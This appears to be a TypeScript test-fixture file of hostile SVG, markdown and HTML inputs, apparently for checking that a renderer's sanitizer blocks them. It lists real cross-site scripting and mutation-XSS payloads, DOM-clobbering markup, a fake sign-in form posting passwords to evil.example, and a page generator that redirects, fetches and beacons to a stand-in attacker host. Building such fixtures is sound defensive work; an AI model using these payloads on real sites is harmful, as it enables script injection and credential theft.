/** Drawings that would run something if they were more than a picture. */
export const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="320" height="200" viewBox="0 0 320 200" onload="window.hurt='svg onload'">
<script>window.hurt = 'svg script'; parent.hurt = 'svg parent'; top.hurt = 'svg top'</script>
<foreignObject width="1" height="1"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:top.hurt='svg frame'"/></foreignObject>
<image href="/api/hurt-by-svg" width="10" height="10"/>
<rect width="320" height="200" rx="24" fill="#a2421f"/><circle cx="160" cy="100" r="60" fill="#f0a184"/>
</svg>`;

/** Each would run, load, submit, cover or rename something if it got through. */
export const hostileMarkdown: readonly string[] = [
  '<script>hurt="script"</script>',
  '<img src=x onerror="hurt=\'onerror\'">',
  '<svg onload="hurt=\'svg\'"><animate onbegin="hurt=1" attributeName="x"></svg>',
  '<svg><style><img src=x onerror="hurt=\'mutation\'"></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hurt=1&gt;">',
  '<iframe src="javascript:parent.hurt=1"></iframe>',
  '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
  '<object data="javascript:hurt=1"></object><embed src="javascript:hurt=1">',
  '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<div style="position:fixed;inset:0;background:red;z-index:99999">covered</div>',
  '<div class="dialog" id="shell">posing as a part of the shell</div>',
  '<a href="javascript:hurt=1">one</a> <a href="  java\nscript:hurt=1">two</a> <a href="&#106;avascript:hurt=1">three</a>',
  '[four](javascript:hurt=1) [five](vbscript:x) [six](data:text/html,<script>hurt=1</script>) [seven](file:///etc/passwd)',
  '[eight](JaVaScRiPt:hurt=1) <javascript:hurt=1> [nine]: javascript:hurt=1\n\n[nine]',
  '![ten](javascript:hurt=1) ![tracker](https://evil.example/pixel.png) ![eleven](//evil.example/pixel.png)',
  '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x"><video src="https://evil.example/v" autoplay></video>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<a href="https://example.com" target="_self" onclick="hurt=1" ping="https://evil.example">ping</a>',
  '<details open ontoggle="hurt=1"><summary>more</summary>text</details>',
  '<img name="getElementById"><form id="querySelector"><input name="attributes">',
  '<p data-x="1" aria-label="lie" contenteditable autofocus tabindex=1 onfocus="hurt=1">attributes</p>',
  '<noscript><p title="</noscript><img src=x onerror=hurt=1>"></noscript>',
  '<template><script>hurt=1</script></template><slot></slot><x-custom onclick="hurt=1">custom</x-custom>',
  '`<img src=x onerror=hurt=1>` \\<script>hurt=1\\</script>',
  '<marquee onstart="hurt=1">moving</marquee><dialog open>dialog</dialog><input autofocus onfocus="hurt=1">',
];

/** A page that tries to run, to load, to leave and to send. */
export const hostilePage = (evil: string): string => `<!doctype html>
<meta http-equiv="refresh" content="0; url=${evil}/refresh">
<base href="${evil}/" target="_self">
<link rel="stylesheet" href="${evil}/style.css">
<link rel="preconnect" href="${evil}">
<link rel="prefetch" href="${evil}/prefetch">
<style>@import '${evil}/import.css'; h1 { color: rgb(1, 2, 3); background: url(${evil}/ground.png) }
@font-face { font-family: evil; src: url(${evil}/font.woff2) } body { font-family: evil }</style>
<script>parent.hurt = 1; top.location = '${evil}/top'; fetch('${evil}/fetch')</script>
<script src="${evil}/script.js"></script>
<body onload="parent.hurt = 2; alert(1)">
<h1>A page of herons</h1>
<img src="${evil}/pixel.png" onerror="parent.hurt = 3">
<svg onload="parent.hurt = 4"><image href="${evil}/image.png" /></svg>
<iframe src="${evil}/frame"></iframe>
<iframe srcdoc="<script>top.hurt = 5</script>"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed">
<video autoplay src="${evil}/video.mp4" poster="${evil}/poster.png"></video>
<p><a href="${evil}/window" target="_blank">to a window</a>
<a href="${evil}/top-link" target="_top">to the top</a>
<a href="javascript:parent.hurt = 6">to a script</a></p>
<form action="${evil}/form" method="post"><input name="secret" value="1"><button>send</button></form>
<p><a href="${evil}/self" ping="${evil}/ping">to itself</a></p>
<!-- left open`;
